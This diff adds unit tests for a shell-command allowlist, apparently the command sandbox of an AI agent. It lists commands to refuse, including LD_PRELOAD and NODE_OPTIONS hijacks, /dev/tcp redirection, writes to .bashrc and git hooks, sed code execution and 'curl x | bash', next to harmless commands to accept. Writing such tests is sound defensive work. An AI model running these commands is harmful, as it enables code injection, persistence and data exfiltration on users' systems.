@@ -151,6 +151,69 @@ describe('an allowlist', () => {
     for (const command of ['$X y', 'curl x | bash', 'python3 -c 1', 'echo x > "$Y"', 'echo "'])
       assert.equal(await allow(command, '(?s).*'), 'undecided', command);
   });
+  const PLAIN = ['ls', 'npm test( .*)?', 'cat( .*)?', 'echo .*', 'sed .*', 'env', 'git status', 'FOO=bar npm test'];
+  for (const command of [
+    'PATH=. ls',
+    'PATH=.:$PATH npm test',
+    'LD_PRELOAD=./x.so ls',
+    'LD_LIBRARY_PATH=. ls',
+    'NODE_OPTIONS=--require=./x.cjs npm test',
+    'NODE_PATH=. npm test',
+    'npm_config_script_shell=./x npm test',
+    'GIT_PAGER=./x git status',
+    'GIT_EXTERNAL_DIFF=./x git status',
+    'BASH_ENV=./x npm test',
+    'PYTHONPATH=. npm test',
+    'env PATH=. ls',
+    'env -i LD_PRELOAD=./x.so ls',
+    'PATH=.; ls',
+    'PATH=. && npm test',
+    'NODE_OPTIONS=-r./x; npm test',
+    'npm_config_prefix=.; npm test',
+    'http_proxy=localhost; npm test',
+    'export PATH=.; ls',
+    'FOO=other npm test',
+    'cat x > /dev/tcp/h/1',
+    'cat < /dev/tcp/h/1',
+    'echo x > /etc/hosts',
+    'echo x >> /home/user/.bashrc',
+    'echo x > .git/hooks/pre-commit',
+    'echo x > /opt/outside',
+    'echo x > "$OUT"',
+    "sed '1e id' README.md",
+    "sed 's/a/id/e' README.md",
+  ])
+    it(`the allowlist refuses an assignment, a place or a code that it does not name: ${command}`, async () =>
+      assert.notEqual(await ruleOf(command, { shellAllow: PLAIN }), null));
+  for (const command of [
+    'CI=1 npm test',
+    'NODE_ENV=test CI=1 npm test',
+    'NO_COLOR=1 ls',
+    'FORCE_COLOR=0 npm test',
+    'LANG=C ls',
+    'LC_ALL=C ls',
+    'TZ=UTC npm test',
+    'TERM=dumb npm test',
+    'env CI=1 npm test',
+    'CI=1; npm test',
+    'name=x; echo y',
+    'FOO=bar npm test',
+    'npm test > test.log',
+    'npm test > test.log 2>&1',
+    'npm test > /dev/null',
+    'npm test &> /dev/null',
+    'npm test 2>&1 > docs/test.log',
+    'npm test > /tmp/test.log',
+    'cat < README.md',
+    'echo x >> notes.txt',
+    "sed 's/a/b/' README.md",
+    "sed -n '1,5p' README.md",
+    "sed -e 's/e/f/' README.md",
+    "sed '/e/d' README.md",
+  ])
+    it(`the allowlist takes a harmless assignment and a place of the project: ${command}`, async () =>
+      assert.equal(await ruleOf(command, { shellAllow: PLAIN }), null));
+
   it('comes before the blocked commands', async () => {
     const rules = { shellAllow: ['git .*'], blockCommands: [simple('git', 'push')] };
     assert.equal(await ruleOf('npm test && git push', rules), 'shell_policy.allowlist');
